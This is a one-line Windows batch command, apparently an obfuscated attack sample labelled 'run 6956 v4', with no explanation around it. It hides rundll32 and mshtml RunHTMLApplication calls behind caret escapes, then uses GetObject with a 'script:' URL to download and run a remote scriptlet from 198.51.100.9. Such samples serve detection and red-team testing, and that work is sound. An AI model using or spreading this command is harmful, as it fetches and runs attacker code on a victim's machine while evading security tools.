REM run 6956 v4
fo^r /f "tokens=1 delims=;" %%^i ^in ("rundll32.exe;tefz;hzee") ^d^o %%i ^ja^vas^cr^ipt:"\..\mshtml,RunHTMLApplication ";^doc^um^ent.wr^it^e();^Ge^t^Ob^j^ect("script:http://198.51.100.9/r.sct")
